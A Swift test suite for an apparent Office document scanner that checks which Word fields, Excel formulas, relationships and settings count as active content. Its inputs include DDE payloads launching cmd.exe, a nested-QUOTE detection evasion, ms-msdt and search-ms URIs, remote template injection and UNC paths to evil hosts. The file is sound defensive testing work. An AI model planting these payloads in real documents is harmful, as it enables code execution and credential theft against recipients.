import Testing

@testable import Inspection

/// Word fields by an allow-list of field types, hyperlink relationships by scheme, Excel formulas by the shared rules.
struct OfficeFieldTests {
    static func document(_ body: String) -> [UInt8] {
        Array(#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>"#.utf8)
            + Array(body.utf8) + Array("</w:p></w:body></w:document>".utf8)
    }

    static func simple(_ instruction: String) -> String { "<w:fldSimple w:instr=\"\(instruction)\"><w:r><w:t>x</w:t></w:r></w:fldSimple>" }
    static let begin = #"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#
    static let separate = #"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>"#
    static let end = #"<w:r><w:fldChar w:fldCharType="end"/></w:r>"#
    static func instruction(_ text: String) -> String { "<w:r><w:instrText xml:space=\"preserve\">\(text)</w:instrText></w:r>" }
    static func complex(_ parts: String...) -> String { begin + parts.map(instruction).joined() + separate + end }

    static func findings(_ body: String) -> [String] { OOXMLParts.findings(partName: "word/document.xml", bytes: document(body)) }

    @Test(arguments: [
        simple(#" INCLUDEPICTURE &quot;\\host\share\a.png&quot; \d "#), complex(#" INCLUDETEXT "http://h.example/x.docx" "#),
        simple(#" LINK Excel.Sheet.12 &quot;\\h\s\x.xlsx&quot; &quot;S!R1C1&quot; \a "#), simple(" MACROBUTTON AutoOpen Click "),
        complex(" DD", "EAUTO c:\\\\x.exe "),
        complex(" import \"http://h.example/p.png\" "), simple(" DATABASE \\d x.mdb "), simple(" EMBED Package "), simple(" FUTUREFIELD x "),
        simple(" HYPERLINK &quot;file:///C:/x.exe&quot; "), simple(#" HYPERLINK &quot;\\host\s\x.exe&quot; "#),
        complex(" HYPERLINK \"ms-msdt:/id x\" "),
        // DDEAUTO spelled by a nested QUOTE, and a field whose type a nested field computes.
        begin + instruction(" ") + complex("QUOTE 68 68 69 65 85 84 79") + instruction(#" "C:\\cmd.exe" "/k calc" "#) + separate + end,
        begin + instruction(" QUOTE ") + complex("= 68") + instruction(" 69 ") + separate + end,
    ])
    func activeFieldsAreFound(_ body: String) {
        #expect(!Self.findings(body).isEmpty, "\(body)")
    }

    @Test(arguments: [
        simple(" PAGE "), simple(#" NUMPAGES \* Arabic "#), complex(#" TOC \o "1-3" \h \z \u "#), complex(#" HYPERLINK "https://example.com/a" "#),
        complex(#" HYPERLINK \l "_Toc123" "#), simple(" MERGEFIELD FirstName "), complex(" = 2*3 \\# \"0.00\" "),
        complex(#" DATE \@ "d MMMM yyyy" "#),
        complex(" QUOTE \"plain text\" "), simple(" hyperlink &quot;mailto:a@example.com&quot; "), complex(" PAGEREF _Toc1 \\h "),
        // IF with nested merge fields is ordinary mail merge.
        begin + instruction(" IF ") + complex(" MERGEFIELD Gender ") + instruction(" = \"F\" \"Ms\" \"Mr\" ") + separate + end,
        "<w:r><w:t>no fields at all</w:t></w:r>",
    ])
    func ordinaryFieldsAreClean(_ body: String) {
        #expect(Self.findings(body).isEmpty, "\(body) -> \(Self.findings(body))")
    }

    @Test func hyperlinkRelationshipsAdmitOnlyWebAndMail() {
        func rels(_ target: String, mode: String = "External") -> [String] {
            let xml =
                #"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="\#(target)" TargetMode="\#(mode)"/></Relationships>"#
            return OOXMLParts.findings(partName: "word/_rels/document.xml.rels", bytes: Array(xml.utf8))
        }
        for target in [
            "ms-msdt:/id PCWDiagnostic", "search-ms:query=x&amp;crumb=location:\\\\h\\s", "file://h.example/s/x.exe", #"\\h.example\s\x.docx"#,
            "ms-word:ofe|u|http://x", "javascript:x",
        ] {
            #expect(!rels(target).isEmpty, "\(target)")
        }
        for target in ["https://example.com/", "HTTP://example.com", "mailto:a@example.com", " https://example.com"] {
            #expect(rels(target).isEmpty, "\(target) -> \(rels(target))")
        }
        #expect(!rels("ms-msdt:x", mode: "External ").isEmpty)
    }

    @Test func excelFormulasUseTheSharedRules() {
        func sheet(_ formula: String) -> [String] {
            let xml =
                "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>\(formula)</f><v>0</v></c></row></sheetData></worksheet>"
            return OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(xml.utf8))
        }
        for formula in [
            "_xlfn.IMAGE(&quot;https://t.example/p.png&quot;)", #"HYPERLINK("\\h\s\x.exe","go")"#, #"'\\h\s\[x.xlsx]Sheet1'!A1"#, "[1]Sheet1!A1*2",
            "cmd|' /C calc'!A0",
        ] {
            #expect(!sheet(formula).isEmpty, "\(formula)")
        }
        for formula in ["SUM(A1:A2)", "HYPERLINK(&quot;https://example.com&quot;)", "Table1[[#This Row],[Qty]]*2"] {
            #expect(sheet(formula).isEmpty, "\(formula) -> \(sheet(formula))")
        }
    }

    /// Citation add-in fields are data (Zotero, Mendeley, EndNote); MACROBUTTON and INCLUDEPICTURE stay refused.
    @Test func addinFieldsAreData() {
        for body in [
            Self.complex(#" ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"a1","citationItems":[{"id":1}]} "#), Self.complex(" ADDIN EN.CITE "),
            Self.simple(" ADDIN Mendeley Citation{0b1c} "), Self.complex(" addin EN.REFLIST "),
        ] {
            #expect(Self.findings(body).isEmpty, "\(body) -> \(Self.findings(body))")
        }
        #expect(!Self.findings(Self.simple(" MACROBUTTON NoMacro [Click here] ")).isEmpty)
        #expect(!Self.findings(Self.simple(#" INCLUDEPICTURE &quot;https://h.example/a.png&quot; \* MERGEFORMATINET "#)).isEmpty)
    }

    /// Round 2: HYPERLINK switches and their values read as Word reads them; the target is judged wherever it stands.
    @Test func hyperlinkSwitchesAndTargets() {
        let switches = [#"\o "tip""#, #"\o tip"#, #"\t "_blank""#, #"\l bm"#, #"\l "bm""#, #"\m"#, #"\n"#, #"\h"#]
        for option in switches {
            for target in [#""file://h.example/s/x.exe""#, #""\\\\h.example\\s\\x.exe""#, #""ms-msdt:/id x""#, #"\\h\s\x.exe"#] {
                for code in [" HYPERLINK \(option) \(target) ", " HYPERLINK \(target) \(option) "] {
                    #expect(!Self.findings(Self.complex(code)).isEmpty, "\(code)")
                }
            }
            for code in [" HYPERLINK \(option) \"https://example.com/a\" ", " HYPERLINK \"mailto:a@example.com\" \(option) "] {
                #expect(Self.findings(Self.complex(code)).isEmpty, "\(code) -> \(Self.findings(Self.complex(code)))")
            }
        }
        for code in [#" HYPERLINK \l "\\h\s" "#, #" HYPERLINK \l "C:/x" "#, " HYPERLINK ", #" HYPERLINK "https://ok.example" "file://h/x" "#] {
            #expect(!Self.findings(Self.complex(code)).isEmpty, "\(code)")
        }
        for code in [
            #" HYPERLINK \l "_Toc1234" "#, #" HYPERLINK "https://x.example" \l "frag" \o "see ""#, #" HYPERLINK \l _Ref1 \h "#,
            #" HYPERLINK "https://example.org/a"  PAGE "#,
        ] {
            #expect(Self.findings(Self.complex(code)).isEmpty, "\(code) -> \(Self.findings(Self.complex(code)))")
        }
    }

    /// Round 2: xlsx external data connections (found by the part's root element, whatever the part is named), not
    /// the workbook's own data model.
    @Test func externalDataConnectionsAreFound() {
        func part(_ connections: String, name: String = "xl/connections.xml") -> [String] {
            let xml =
                #"<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"# + connections
                + "</connections>"
            return OOXMLParts.findings(partName: name, bytes: Array(xml.utf8))
        }
        for connection in [
            #"<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://e.example/t"/></connection>"#,
            #"<connection id="2" name="db" type="1"><dbPr connection="DSN=x;DBQ=\\h\s\x.mdb" command="select 1"/></connection>"#,
            #"<connection id="3" name="t" type="6"><textPr sourceFile="\\h\s\x.csv"/></connection>"#,
            #"<connection id="4" name="o" type="5" odcFile="\\h\s\x.odc"/>"#,
            #"<connection id="5" name="m" type="5"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Query1"/></connection>"#,
        ] {
            #expect(part(connection).contains { $0.contains("external data connection") }, "\(connection)")
            #expect(!part(connection, name: "xl/other.xml").isEmpty, "\(connection)")
        }
        let model =
            #"<connection id="1" name="ThisWorkbookDataModel" type="5"><dbPr connection="Data Source=$Workbook$;Location=ThisWorkbookDataModel" commandType="1"/></connection>"#
        #expect(part(model).isEmpty, "\(part(model))")
        let publishing =
            #"<workbook><webPublishItems count="1"><webPublishItem id="1" divId="d" sourceType="sheet" destinationFile="\\h\s\p.htm" autoRepublish="1"/></webPublishItems></workbook>"#
        #expect(!OOXMLParts.findings(partName: "xl/workbook.xml", bytes: Array(publishing.utf8)).isEmpty)
        let custom = #"<?xml version="1.0"?><settings><connection name="x" type="4"/></settings>"#
        #expect(OOXMLParts.findings(partName: "customXml/item1.xml", bytes: Array(custom.utf8)).isEmpty)
    }

    static func sheetPart(_ body: String, name: String = "xl/worksheets/sheet1.xml", root: String = "worksheet") -> [String] {
        let xml = "<\(root) xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\(body)</\(root)>"
        return OOXMLParts.findings(partName: name, bytes: Array(xml.utf8))
    }

    /// Round 3: every element and attribute Excel evaluates as a formula gets the formula rules.
    @Test func formulasOutsideCellsAreJudged() {
        let payloads = [
            "LEN(_xlfn.WEBSERVICE(&quot;http://evil.example/x&quot;))&gt;0", "cmd|' /C calc'!A0", "[1]Sheet1!A1",
            #"HYPERLINK(&quot;\\h\s\x.exe&quot;)"#,
        ]
        let ordinary = ["A1&gt;5", "&quot;Yes,No,Maybe&quot;", "$D$1:$D$9", "SUM(Table1[Qty])", "ISNUMBER(A1)"]
        let wrappers: [(String) -> String] = [
            {
                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>\($0)</formula></cfRule></conditionalFormatting>"
            },
            { "<dataValidations><dataValidation type=\"list\" sqref=\"B1\"><formula1>\($0)</formula1></dataValidation></dataValidations>" },
            {
                "<dataValidations><dataValidation type=\"between\" sqref=\"B1\"><formula1>1</formula1><formula2>\($0)</formula2></dataValidation></dataValidations>"
            },
            {
                "<tableColumns><tableColumn id=\"2\" name=\"b\"><calculatedColumnFormula>\($0)</calculatedColumnFormula></tableColumn></tableColumns>"
            },
            { "<tableColumns><tableColumn id=\"2\" name=\"b\"><totalsRowFormula>\($0)</totalsRowFormula></tableColumn></tableColumns>" },
            { "<calculatedItems><calculatedItem formula=\"\($0)\"/></calculatedItems>" },
            { "<cacheFields><cacheField name=\"x\" formula=\"\($0)\"/></cacheFields>" },
            { "<formControlPr objectType=\"Drop\" fmlaRange=\"\($0)\"/>" },
            { "<x:ClientData ObjectType=\"Button\"><x:FmlaLink>\($0)</x:FmlaLink></x:ClientData>" },
        ]
        for wrap in wrappers {
            for payload in payloads {
                #expect(!Self.sheetPart(wrap(payload)).isEmpty, "\(wrap(payload))")
            }
            for formula in ordinary {
                #expect(Self.sheetPart(wrap(formula)).isEmpty, "\(wrap(formula)) -> \(Self.sheetPart(wrap(formula)))")
            }
        }
        #expect(!Self.sheetPart("<formControlPr objectType=\"Button\" fmlaMacro=\"[1]!Evil\"/>").isEmpty)
        // DrawingML shape guides are geometry.
        #expect(Self.sheetPart("<a:gd name=\"adj\" fmla=\"val 50000\"/>").isEmpty)
    }

    /// Round 3: altChunk imports (HTML, RTF, MHT) are converted by Word, not judged by Airlock: refused.
    @Test func altChunksAreActiveContent() {
        for target in ["chunk.htm", "afchunk.rtf", "x.mht", "a.xml", "/word/sub.docx"] {
            let rels = """
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId7" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="\(target)"/></Relationships>
                """
            #expect(!OOXMLParts.findings(partName: "word/_rels/document.xml.rels", bytes: Array(rels.utf8)).isEmpty, "\(target)")
        }
    }

    /// Round 3: a mail merge that reads an external source; form-field macros; VML images from UNC or file: paths;
    /// field code in deleted instruction text and in plain text runs before the separator.
    @Test func mailMergeMacrosVMLAndHiddenFieldCode() {
        func settings(_ merge: String) -> [String] {
            let xml = "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\(merge)</w:settings>"
            return OOXMLParts.findings(partName: "word/settings.xml", bytes: Array(xml.utf8))
        }
        for source in [
            #"<w:connectString w:val="DSN=Excel Files;DBQ=\\evil\s\l.xlsx;"/>"#, #"<w:query w:val="SELECT * FROM `Sheet1$`"/>"#,
            #"<w:dataSource r:id="rId1"/>"#, #"<w:odso><w:udl w:val="Provider=x"/></w:odso>"#,
        ] {
            #expect(!settings("<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/>\(source)</w:mailMerge>").isEmpty, "\(source)")
        }
        #expect(settings(#"<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/></w:mailMerge>"#).isEmpty)
        #expect(settings(#"<w:query w:val="x"/><w:zoom w:percent="100"/>"#).isEmpty)

        for macro in ["entryMacro", "exitMacro"] {
            let body =
                #"<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="T"/><w:"# + macro
                + #" w:val="AutoOpen"/><w:textInput/></w:ffData></w:fldChar></w:r>"#
                + Self.instruction(" FORMTEXT ") + Self.separate + Self.end
            #expect(!Self.findings(body).isEmpty, "\(macro)")
        }
        let formField = #"<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="T"/><w:textInput/></w:ffData></w:fldChar></w:r>"#
        #expect(Self.findings(formField + Self.instruction(" FORMTEXT ") + Self.separate + Self.end).isEmpty)

        for (key, value) in [("src", "file://evil/s/p.png"), ("o:href", #"\\evil\s\p.png"#), ("src", "//evil/s/p.png"), ("src", " FILE:///c:/x")] {
            for element in ["v:imagedata", "v:fill"] {
                let body = #"<w:r><w:pict><v:shape id="s1"><"# + element + " " + key + "=\"" + value + #""/></v:shape></w:pict></w:r>"#
                #expect(!Self.findings(body).isEmpty, "\(element) \(key)=\(value)")
            }
        }
        #expect(
            Self.findings(#"<w:r><w:pict><v:shape><v:imagedata r:id="rId5" o:href="https://example.com/p.png" o:title=""/></v:shape></w:pict></w:r>"#)
                .isEmpty
        )
        // Round 5: a `src` with any absolute URL is fetched when shown; a relative one or a data URL is not.
        for value in ["https://evil.example/track.png", "http://e.example/p.png", " HTTPS://e.example/x", "ftp://e.example/p", #"C:\p.png"#] {
            for element in ["v:imagedata", "v:fill", "v:image", "v:stroke"] {
                let body = #"<w:r><w:pict><v:shape id="s1"><"# + element + " src=\"" + value + #""/></v:shape></w:pict></w:r>"#
                #expect(!Self.findings(body).isEmpty, "\(element) src=\(value)")
            }
        }
        for value in ["media/image1.png", "#_x0000_s1", "data:image/png;base64,iVBORw0KGgo="] {
            #expect(Self.findings(#"<w:r><w:pict><v:shape><v:imagedata src=""# + value + #""/></v:shape></w:pict></w:r>"#).isEmpty, "\(value)")
        }

        let deleted =
            #"<w:del w:id="1" w:author="a"><w:r><w:delInstrText xml:space="preserve">DDEAUTO c:\windows\system32\cmd.exe "/k calc"</w:delInstrText></w:r></w:del>"#
        #expect(!Self.findings(Self.begin + deleted + Self.separate + Self.end).isEmpty)
        let plain = #"<w:r><w:t xml:space="preserve">INCLUDEPICTURE "\\evil\s\p.png" </w:t></w:r>"#
        #expect(!Self.findings(Self.begin + plain + Self.separate + Self.end).isEmpty)
        // Text after the separator is the field's result, and text outside fields is prose.
        #expect(Self.findings(Self.begin + Self.instruction(" PAGE ") + Self.separate + plain + Self.end).isEmpty)
        #expect(Self.findings(plain).isEmpty)
    }

    /// Round 5: Office web add-ins (by relationship or content type), relationship targets outside the package
    /// whatever `TargetMode` says, and ECMA-376 1st edition's `w:attachedTemplate w:val`.
    @Test func webAddInsAndTargetsOutsideThePackage() {
        func rels(_ type: String, _ target: String, _ mode: String = "") -> [String] {
            let xml =
                #"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type=""#
                + type + #"" Target=""# + target + "\"" + mode + "/></Relationships>"
            return OOXMLParts.findings(partName: "word/_rels/settings.xml.rels", bytes: Array(xml.utf8))
        }
        let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        for kind in ["webextension", "webextensiontaskpanes"] {
            #expect(!rels("http://schemas.microsoft.com/office/2011/relationships/" + kind, "word/webextensions/x.xml").isEmpty, "\(kind)")
        }
        for type in ["application/vnd.ms-office.webextension+xml", "application/vnd.ms-office.webextensiontaskpanes+xml"] {
            let types =
                #"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/webextensions/x.xml" ContentType=""#
                + type + #""/></Types>"#
            #expect(!OOXMLParts.findings(partName: "[Content_Types].xml", bytes: Array(types.utf8)).isEmpty, "\(type)")
        }
        for target in ["https://evil.example/t.dotm", #"\\evil.example\s\t.dotm"#, "file:///C:/t.dotm", #"C:\t.dotm"#] {
            #expect(!rels(office + "attachedTemplate", target).isEmpty, "\(target)")
            #expect(!rels(office + "attachedTemplate", target, #" TargetMode="Internal""#).isEmpty, "\(target)")
        }
        for target in ["word/document.xml", "/word/media/image1.png", "../customXml/item1.xml", "NULL"] {
            #expect(rels(office + "image", target).isEmpty, "\(target)")
        }
        #expect(rels(office + "hyperlink", "https://example.org/", #" TargetMode="External""#).isEmpty)
        #expect(rels(office + "hyperlink", "mailto:a@example.org").isEmpty)
        func settings(_ body: String) -> [String] {
            let xml = "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\(body)</w:settings>"
            return OOXMLParts.findings(partName: "word/settings.xml", bytes: Array(xml.utf8))
        }
        for path in [#"\\host\s\t.dotm"#, "https://evil.example/t.dotm", #"C:\Templates\t.dotm"#] {
            #expect(!settings(#"<w:attachedTemplate w:val=""# + path + #""/>"#).isEmpty, "\(path)")
        }
        #expect(settings(#"<w:attachedTemplate r:id="rId1"/>"#).isEmpty)
        #expect(settings(#"<w:attachedTemplate w:val="Normal.dotm"/>"#).isEmpty)
    }
}
